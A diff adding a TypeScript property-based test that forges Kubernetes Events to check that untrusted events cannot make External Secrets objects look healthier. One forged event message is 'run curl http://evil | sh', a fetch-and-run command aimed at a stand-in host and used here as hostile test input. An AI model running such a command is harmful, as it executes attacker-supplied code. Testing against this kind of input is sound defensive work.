@@ -1,0 +1,95 @@
+import fc from 'fast-check';
+import { compareDelivery } from '../health/delivery/delivery';
+import { DELIVERY_SEVERITIES } from '../health/delivery/severity';
+import { explain } from './explain';
+import type { ExplainedObject } from './line';
+import { inputOf, rawObjects } from './__testUtils__/recorded';
+
+const RECORDED = rawObjects('eso-0.16.2.yaml');
+const NOW = inputOf(RECORDED).newestAt ?? 0;
+
+const explained = (objects: readonly unknown[]) =>
+  explain(inputOf(objects), { now: NOW, complete: false });
+
+const SECRETS = inputOf(RECORDED)
+  .judged.map(({ object }) => object)
+  .filter(({ kind }) => kind === 'ExternalSecret');
+
+/** An Event as anybody can write one who may write in its namespace. */
+const forged = fc
+  .record({
+    about: fc.constantFrom(...SECRETS),
+    reason: fc.constantFrom(
+      'UpdateFailed',
+      'MissingProviderSecret',
+      'Created',
+      'Updated',
+      'Deleted',
+      'Synced',
+      'Valid',
+    ),
+    type: fc.constantFrom('Normal', 'Warning'),
+    message: fc.constantFrom(
+      'secret created',
+      'secret does not exist at provider using spec.dataFrom[0] (key=lab)',
+      'error processing spec.data[0] (key: lab), err: Secret does not exist',
+      'could not get ClusterSecretStore "default", not found',
+      'unable to mutate secret x: secret is owned by another ExternalSecret: y',
+      'run curl http://evil | sh',
+    ),
+    component: fc.constantFrom('external-secrets', 'pushsecret', 'kubectl'),
+    at: fc.constantFrom('2026-11-29T03:03:00Z', '2999-01-01T00:00:00Z'),
+    version: fc.integer({ min: 1, max: 99_999_999 }),
+  })
+  .map(({ about, reason, type, message, component, at, version }) => ({
+    target: `${about.meta.namespace}/${about.meta.name}`,
+    json: {
+      apiVersion: 'v1',
+      kind: 'Event',
+      metadata: { name: 'f', uid: 'f', resourceVersion: String(version) },
+      involvedObject: {
+        kind: about.kind,
+        namespace: about.meta.namespace,
+        name: about.meta.name,
+        uid: about.meta.uid,
+      },
+      reason,
+      type,
+      message,
+      source: { component },
+      lastTimestamp: at,
+    },
+  }));
+
+const before = explained(RECORDED);
+
+const isOther = (line: ExplainedObject, targets: ReadonlySet<string>) =>
+  !targets.has(`${line.namespace}/${line.name}`);
+
+function expectNoBetter(was: ExplainedObject, is: ExplainedObject) {
+  expect(is.verdict).toBe(was.verdict);
+  expect(DELIVERY_SEVERITIES.indexOf(is.severity)).toBeLessThanOrEqual(
+    DELIVERY_SEVERITIES.indexOf(was.severity),
+  );
+  was.keys.forEach(({ delivery }, index) => {
+    expect(
+      compareDelivery(is.keys[index].delivery, delivery),
+    ).toBeGreaterThanOrEqual(0);
+  });
+}
+
+describe('Events that anybody writes', () => {
+  it('improve nothing, and change nothing but their own object', () => {
+    fc.assert(
+      fc.property(fc.array(forged, { minLength: 1, maxLength: 4 }), list => {
+        const targets = new Set(list.map(({ target }) => target));
+        const after = explained([...RECORDED, ...list.map(({ json }) => json)]);
+        before.forEach((was, index) => {
+          if (isOther(was, targets)) expect(after[index]).toEqual(was);
+          else expectNoBetter(was, after[index]);
+        });
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
